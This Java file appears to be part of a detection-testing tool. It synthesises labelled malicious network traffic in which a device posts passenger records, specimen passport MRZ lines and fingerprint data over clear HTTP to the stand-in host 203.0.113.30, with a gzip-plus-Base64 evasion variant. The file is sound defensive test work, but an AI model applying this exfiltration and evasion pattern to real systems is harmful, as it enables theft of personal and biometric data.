package io.telltale.testdata.scenario.attack;

import io.telltale.testdata.payload.Bytes;
import io.telltale.testdata.payload.Http;
import io.telltale.testdata.scenario.BaseScenario;
import io.telltale.testdata.scenario.Device;
import io.telltale.testdata.scenario.Label;
import io.telltale.testdata.scenario.Plan;
import io.telltale.testdata.scenario.Severity;
import io.telltale.testdata.scenario.Site;
import io.telltale.testdata.scenario.Truth;
import io.telltale.testdata.wire.TcpConnection;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.InetAddress;
import java.util.Base64;
import java.util.List;
import java.util.zip.GZIPOutputStream;

/**
 * A13: the EDS posts personal data in clear HTTP to 203.0.113.30/upload, one multipart burst of
 * 1–3 MB: a PAXLST, two TD3 passport MRZ lines (ICAO Doc 9303's specimen, check digits valid), an
 * ISO 19794-2 fingerprint template ({@code FMR\0 20\0}) and a WSQ image ({@code FF A0 … FF A8}). The
 * evasion variant gzips the body and sends it Base64-encoded.
 */
public final class PersonalDataPost extends BaseScenario {

    static final InetAddress SERVER = Site.address("203.0.113.30");
    static final String MRZ = "P<UTOERIKSSON<<ANNA<MARIA<<<<<<<<<<<<<<<<<<<\nL898902C36UTO7408122F1204159ZE184226B<<<<<10\n";

    private final boolean encoded;

    public PersonalDataPost(String id, boolean encoded) {
        super(id, Label.MALICIOUS, "passenger and biometric data POSTed in clear HTTP to 203.0.113.30"
                + (encoded ? ", gzip + Base64" : ""));
        this.encoded = encoded;
    }

    @Override
    public void plan(Plan plan) {
        Device eds = plan.site().device("EDS-1");
        long start = Plan.dayOf(plan.start()) + 12 * HOUR + 31 * MINUTE;
        int padding = plan.scaled(1_000_000 + plan.random().nextInt(2_000_000), 4_000);
        byte[] multipart = multipart(plan.random(), padding);
        byte[] body = encoded ? Base64.getMimeEncoder().encode(gzip(multipart)) : multipart;
        String type = encoded ? "text/plain" : "multipart/form-data; boundary=----7d9a1f3c2b";
        byte[] request = Http.request("POST", "/upload", "203.0.113.30", "Mozilla/4.0 (compatible; Win32; WinHttp.WinHttpRequest.5)",
                type, body);
        plan.at(start, talk -> {
            TcpConnection c = talk.tcp(eds, SERVER, 80, talk.start());
            c.clientSends(request);
            c.serverSends(Http.response(200, "OK", "text/plain", Bytes.text("stored\n")));
            c.close(true);
        });
        truth(plan, eds, new Truth.Remote(SERVER.getHostAddress(), null, "tcp", 80),
                List.of("cleartext-sensitive-data", "internet-access", "dns-less-connection"), Severity.CRITICAL,
                List.of("T1048.003", "T1041"), start, start + 5 * MINUTE,
                new Truth.Expect(Truth.Expect.FLOWS, 1, 1, request.length, request.length, 100, 300, 0, 0), List.of());
    }

    static byte[] multipart(java.util.Random random, int imageBytes) {
        String b = "------7d9a1f3c2b";
        byte[] fmr = new Bytes().ascii("FMR\0").ascii(" 20\0").u32(200).u16(0).u16(500).u16(500).u16(197).u16(197).u8(1)
                .u8(0).u8(0).u8(100).u8(12).put(Bytes.random(random, 72)).u16(0).bytes();
        byte[] wsq = new Bytes().u16(0xffa0).u16(0xffa8).u16(6).ascii("NIST").put(Bytes.random(random, imageBytes)).u16(0xffa1)
                .bytes();
        return Bytes.concat(
                Bytes.text(b + "\r\nContent-Disposition: form-data; name=\"api\"; filename=\"paxlst.edi\"\r\n\r\n"),
                Bytes.text(SlowDnsExfiltration.PAXLST),
                Bytes.text("\r\n" + b + "\r\nContent-Disposition: form-data; name=\"mrz\"\r\n\r\n" + MRZ),
                Bytes.text("\r\n" + b + "\r\nContent-Disposition: form-data; name=\"fp\"; filename=\"r1.fmr\"\r\n"
                        + "Content-Type: application/octet-stream\r\n\r\n"), fmr,
                Bytes.text("\r\n" + b + "\r\nContent-Disposition: form-data; name=\"img\"; filename=\"r1.wsq\"\r\n"
                        + "Content-Type: application/octet-stream\r\n\r\n"), wsq,
                Bytes.text("\r\n" + b + "--\r\n"));
    }

    static byte[] gzip(byte[] data) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (GZIPOutputStream z = new GZIPOutputStream(out)) {
            z.write(data);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        byte[] b = out.toByteArray();
        b[4] = b[5] = b[6] = b[7] = 0; // no modification time: the same bytes on every run
        return b;
    }
}
